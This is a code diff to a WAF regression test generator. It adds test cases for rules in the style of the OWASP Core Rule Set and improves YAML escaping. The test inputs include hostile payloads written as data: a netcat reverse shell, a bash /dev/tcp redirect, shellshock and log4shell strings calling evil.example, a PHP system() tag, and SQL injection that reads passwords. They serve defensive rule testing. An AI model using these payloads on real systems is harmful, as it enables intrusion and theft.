@@ -256,6 +256,314 @@ CASES = [
          {"Content-Type": "application/x-www-form-urlencoded"},
          "data=rO0ABQhelloworld", ("block", [944210])),
     ]),
+    # ---- r3 additions: 905 exceptions ----
+    (905100, [
+        ("healthz always passes even with attack-looking query", "GET",
+         "/healthz?q=union+select+1", {}, None, ("pass",)),
+        ("healthz-adjacent path is NOT excepted", "GET",
+         "/healthz2?q=union+select+password+from+users", {}, None,
+         ("block", [949110])),
+    ]),
+    (905110, [
+        ("readyz passes", "GET", "/readyz", {}, None, ("pass",)),
+    ]),
+    (905120, [
+        ("probe UA from allowlisted IP disables scanner family", "GET", "/",
+         {"User-Agent": "cko-internal-probe/1"}, None, ("pass",)),
+    ]),
+    # ---- 912 DoS ----
+    (912160, [
+        ("129 args scores", "GET", "/?" + "&".join(f"a{i}=1" for i in range(129)),
+         {}, None, ("score", [912160])),
+        ("64 args pass", "GET", "/?" + "&".join(f"a{i}=1" for i in range(64)),
+         {}, None, ("pass",)),
+    ]),
+    (912170, [
+        ("70KB of args scores", "POST", "/", {"Content-Type": "application/x-www-form-urlencoded"},
+         "big=" + "x" * 70000, ("score", [912170])),
+    ]),
+    (912171, [
+        ("1MB+ body scores", "POST", "/up", {"Content-Type": "application/octet-stream"},
+         "z" * 1048600, ("score", [912171])),
+    ]),
+    (912180, [
+        ("six byte-ranges scores", "GET", "/f.bin",
+         {"Range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11"}, None, ("score", [912180])),
+        ("single range passes", "GET", "/f.bin", {"Range": "bytes=0-1023"}, None,
+         ("pass",)),
+    ]),
+    # ---- 922 multipart ----
+    (922110, [
+        ("part without content-disposition blocked", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nX-Broken: 1\r\n\r\nv\r\n--XB--\r\n", ("block", [922110])),
+        ("well-formed multipart passes", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv\r\n--XB--\r\n",
+         ("pass",)),
+        ("missing closing delimiter blocked", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv\r\n",
+         ("block", [922110])),
+    ]),
+    (922120, [
+        ("foreign boundary line scores", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n--SMUGGLED\r\n--XB--\r\n",
+         ("score", [922120])),
+    ]),
+    (922200, [
+        ("php upload filename scores", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--XB--\r\n",
+         ("score", [922200])),
+        ("png upload passes", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cat.png\"\r\n\r\nx\r\n--XB--\r\n",
+         ("pass",)),
+        ("double-extension php.png passes this rule", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php.png\"\r\n\r\nx\r\n--XB--\r\n",
+         ("score", [922200])),
+    ]),
+    (922210, [
+        ("traversal filename scores", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/cron.d/x\"\r\n\r\nx\r\n--XB--\r\n",
+         ("score", [922210])),
+    ]),
+    (922130, [
+        ("nested multipart declaration in field scores", "POST", "/up",
+         {"Content-Type": "multipart/form-data; boundary=XB"},
+         "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nContent-Type: multipart/mixed; boundary=inner\r\n--XB--\r\n",
+         ("score", [922130])),
+    ]),
+    # ---- 920 additions ----
+    (920170, [
+        ("GET with body scores", "GET", "/res", {"Content-Type": "text/plain"},
+         "stray body", ("score", [920170])),
+        ("POST with body passes", "POST", "/res",
+         {"Content-Type": "application/x-www-form-urlencoded"}, "a=1", ("pass",)),
+    ]),
+    (920180, [
+        ("CL+TE together scores", "POST", "/s",
+         {"Transfer-Encoding": "chunked", "Content-Length": "5",
+          "Content-Type": "text/plain"}, "abcde", ("score", [920180])),
+    ]),
+    (920230, [
+        ("double-encoding scores", "GET", "/?p=%2541%25zz", {}, None,
+         ("score", [920230])),
+    ]),
+    (920271, [
+        ("raw control byte in URI scores", "GET", "/a\x07b", {}, None,
+         ("score", [920271])),
+    ]),
+    (920280, [
+        ("missing host header scores", "GET", "/", {"__DROP_HOST__": "1"}, None,
+         ("score", [920280])),
+    ]),
+    (920290, [
+        ("empty host header scores", "GET", "/", {"Host": ""}, None,
+         ("score", [920290])),
+    ]),
+    (920320, [
+        ("missing UA scores", "GET", "/", {"__DROP_UA__": "1"}, None,
+         ("score", [920320])),
+    ]),
+    (920330, [
+        ("empty UA scores", "GET", "/", {"User-Agent": ""}, None,
+         ("score", [920330])),
+    ]),
+    (920340, [
+        ("body without content-type scores", "POST", "/x", {}, "raw-bytes",
+         ("score", [920340])),
+    ]),
+    (920430, [
+        ("HTTP/0.9 scores", "GET", "/", {"__PROTO__": "HTTP/0.9"}, None,
+         ("score", [920430])),
+        ("HTTP/2 passes", "GET", "/", {"__PROTO__": "HTTP/2"}, None, ("pass",)),
+    ]),
+    (920440, [
+        (".env extension scores", "GET", "/app/.env", {}, None,
+         ("score", [920440, 913130])),
+        (".bak extension scores", "GET", "/db.sql.bak", {}, None,
+         ("score", [920440])),
+        (".html passes", "GET", "/index.html", {}, None, ("pass",)),
+    ]),
+    (920450, [
+        ("proxy-connection header scores", "GET", "/",
+         {"Proxy-Connection": "keep-alive"}, None, ("score", [920450])),
+    ]),
+    (920470, [
+        ("control bytes in content-type score", "POST", "/x",
+         {"Content-Type": "text/\x01plain"}, "b", ("score", [920470])),
+    ]),
+    (920480, [
+        ("text content-type without charset scores", "POST", "/x",
+         {"Content-Type": "text/plain"}, "b", ("score", [920480, 920340])),
+        ("charset present passes", "POST", "/x",
+         {"Content-Type": "text/plain; charset=utf-8"}, "b", ("pass",)),
+    ]),
+    (920100, [
+        ("lowercase method in request line scores", "GET", "/ok",
+         {"__METHOD__": "get"}, None, ("score", [920100, 911100])),
+    ]),
+    # ---- 921 additions ----
+    (921150, [
+        ("newline in arg NAME scores", "GET", "/?a%0d%0ab=1", {}, None,
+         ("score", [921150])),
+    ]),
+    (921160, [
+        ("header field injection via arg scores", "GET",
+         "/?next=%0d%0aX-Forwarded-For:%20evil", {}, None,
+         ("score", [921160, 921130])),
+    ]),
+    (921190, [
+        ("CRLF in path scores", "GET", "/redir%0d%0aLocation:%20http://evil", {},
+         None, ("score", [921190])),
+    ]),
+    # ---- 941 additions ----
+    (941181, [
+        ("remote script src scores", "GET", "/?c=<script%20src=//evil.example/x.js>",
+         {}, None, ("block", [941181, 941100, 949110])),
+    ]),
+    (941210, [
+        ("vbscript scheme blocked", "GET", "/?u=vbscript:msgbox(1)", {}, None,
+         ("score", [941210])),
+        ("data scheme blocked", "GET", "/?u=data:text/html;base64,PHNjcmlwdD4=", {},
+         None, ("score", [941210])),
+        ("https url passes", "GET", "/?u=https://ok.example/page", {}, None,
+         ("pass",)),
+    ]),
+    (941250, [
+        ("document.cookie scores", "GET", "/?x=document.cookie", {}, None,
+         ("score", [941250])),
+        ("documentation word passes", "GET", "/?x=documentation+cookies", {}, None,
+         ("pass",)),
+    ]),
+    (941270, [
+        ("XSS in cookie scores", "GET", "/", {"Cookie": "pref=<script>alert(1)</script>"},
+         None, ("block", [941270, 941100])),
+    ]),
+    (941280, [
+        ("svg tag scores", "GET", "/?z=<svg/onload=alert(1)>", {}, None,
+         ("block", [941280, 941100])),
+    ]),
+    (941290, [
+        ("eval(atob(...)) scores", "GET", "/?p=eval(atob('YWxlcnQoMSk='))", {}, None,
+         ("score", [941290])),
+    ]),
+    (941300, [
+        ("PL3 any-tag handler does NOT fire at PL2", "GET",
+         "/?c=<x%20onpointerdown=alert(1)>", {}, None, ("pass", )),
+    ]),
+    # ---- 942 additions ----
+    (942470, [
+        ("updatexml() scores", "GET", "/?id=updatexml(1,concat(0x7e,version()),1)",
+         {}, None, ("block", [942470])),
+    ]),
+    (942480, [
+        ("case-when probing scores", "GET", "/?id=1+and+case+when+1=1+then+1+else+0+end",
+         {}, None, ("block", [942480])),
+    ]),
+    (942490, [
+        ("pg_sleep scores", "GET", "/?id='+or+pg_sleep(5)--", {}, None,
+         ("block", [942490])),
+        ("waitfor delay scores", "GET", "/?id=1;waitfor%20delay%20'0:0:5'--", {},
+         None, ("block", [942490])),
+    ]),
+    (942500, [
+        ("inline versioned comment scores", "GET", "/?q=/*!50000union*/+select+1",
+         {}, None, ("block", [942500])),
+    ]),
+    (942520, [
+        ("SQLi in cookie scores", "GET", "/",
+         {"Cookie": "cart=1'+union+select+password+from+users--"}, None,
+         ("score", [942520])),
+    ]),
+    (942530, [
+        ("SQL token in parameter name scores", "GET", "/?select=1&union=2", {},
+         None, ("score", [942530])),
+    ]),
+    (942540, [
+        ("PL3 generic boolean comparison does NOT fire at PL2", "GET",
+         "/?f=1+or+price=cost", {}, None, ("pass",)),
+    ]),
+    # ---- 932/933/930 additions ----
+    (932130, [
+        ("IFS evasion scores", "GET", "/?c=cat$IFS/etc/passwd", {}, None,
+         ("block", [932130])),
+    ]),
+    (932140, [
+        ("netcat exec scores", "GET", "/?c=nc%20-e%20/bin/sh%2010.0.0.1%204444", {},
+         None, ("block", [932140])),
+    ]),
+    (932150, [
+        ("dev tcp redirection scores", "GET", "/?c=bash%20-i%20>/dev/tcp/1.2.3.4/99",
+         {}, None, ("block", [932150])),
+    ]),
+    (932171, [
+        ("python one-liner scores", "GET",
+         "/?c=python3%20-c%20'import%20os;os.system(%22id%22)'", {}, None,
+         ("block", [932171])),
+    ]),
+    (932180, [
+        ("shellshock UA blocked outright", "GET", "/",
+         {"User-Agent": "() { :; }; /bin/cat /etc/passwd"}, None,
+         ("block", [932180])),
+    ]),
+    (933101, [
+        ("php open tag scores", "GET", "/?t=<?php%20system($_GET[1]);", {}, None,
+         ("block", [933101])),
+    ]),
+    (933190, [
+        ("phar wrapper scores", "GET", "/?f=phar://upload.jpg/x.php", {}, None,
+         ("block", [933190])),
+    ]),
+    (933200, [
+        ("superglobal reference scores", "GET", "/?v=$_POST[cmd]", {}, None,
+         ("score", [933200])),
+    ]),
+    (930115, [
+        ("backslash traversal scores", "GET", "/?p=..%5c..%5cwindows%5cwin.ini",
+         {}, None, ("block", [930115, 930100])),
+    ]),
+    (930135, [
+        ("proc self environ phrase scores", "GET", "/?f=/proc/self/environ", {},
+         None, ("block", [930135, 930120])),
+    ]),
+    # ---- 943/944 additions ----
+    (943120, [
+        ("session id param with offsite referer scores", "GET",
+         "/?PHPSESSID=abcd1234", {"Referer": "http://evil.example/"}, None,
+         ("score", [943120])),
+        ("session id param without referer passes", "GET", "/?PHPSESSID=abcd1234",
+         {}, None, ("pass",)),
+    ]),
+    (944151, [
+        ("log4shell jndi blocked outright", "GET",
+         "/?x=${jndi:ldap://evil.example/a}", {}, None, ("block", [944151])),
+    ]),
+    (944160, [
+        ("runtime exec scores", "GET", "/?x=Runtime.getRuntime().exec('id')", {},
+         None, ("score", [944160])),
+    ]),
+    (944170, [
+        ("struts ognl namespace scores", "GET",
+         "/?x=com.opensymphony.xwork2.dispatcher", {}, None, ("score", [944170])),
+    ]),
+    # ---- 913 additions ----
+    (913120, [
+        ("masscan phrase scores", "GET", "/", {"User-Agent": "masscan/1.3"}, None,
+         ("block", [913120, 913100])),
+    ]),
+    (913130, [
+        ("wp-login probe scores", "GET", "/wp-login.php", {}, None,
+         ("score", [913130])),
+        ("git dir probe scores", "GET", "/.git/config", {}, None,
+         ("score", [913130, 920440])),
+    ]),
+
 ]
 
 # Response-phase cases (loader extension: input.response injects the
@@ -315,7 +623,14 @@ RESPONSE_CASES = [
 
 
 def _yaml_str(s: str) -> str:
-    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'
+    out = s.replace("\\", "\\\\").replace('"', '\\"')
+    out = out.replace("\r", "\\r").replace("\n", "\\n").replace("\x00", "\\0")
+    # Remaining C0 control bytes must be escaped too — PyYAML refuses
+    # raw control characters even inside double-quoted scalars.
+    out = "".join(
+        ch if ch >= " " or ch in "\\" else "\\x%02x" % ord(ch) for ch in out
+    )
+    return '"' + out + '"'
 
 
 def emit(rule_id: int, cases: list, with_response: bool = False) -> str:
@@ -334,6 +649,15 @@ def emit(rule_id: int, cases: list, with_response: bool = False) -> str:
             desc, method, uri, headers, body = case[:5]
             response, expect = None, case[5]
         hdrs = {"Host": "localhost", "User-Agent": UA, **headers}
+        # Pseudo-headers steer request framing instead of being sent:
+        # __DROP_HOST__/__DROP_UA__ remove the default header entirely,
+        # __PROTO__ overrides the HTTP version, __METHOD__ the method.
+        if hdrs.pop("__DROP_HOST__", None):
+            hdrs.pop("Host", None)
+        if hdrs.pop("__DROP_UA__", None):
+            hdrs.pop("User-Agent", None)
+        version = hdrs.pop("__PROTO__", None)
+        method = hdrs.pop("__METHOD__", method)
         lines += [
             f"  - test_id: {i}",
             f"    desc: {_yaml_str(desc)}",
@@ -341,8 +665,10 @@ def emit(rule_id: int, cases: list, with_response: bool = False) -> str:
             "      - input:",
             f"          method: {method}",
             f"          uri: {_yaml_str(uri)}",
-            "          headers:",
         ]
+        if version:
+            lines.append(f"          version: {_yaml_str(version)}")
+        lines.append("          headers:")
         for k, v in hdrs.items():
             lines.append(f"            {k}: {_yaml_str(v)}")
         if body is not None:
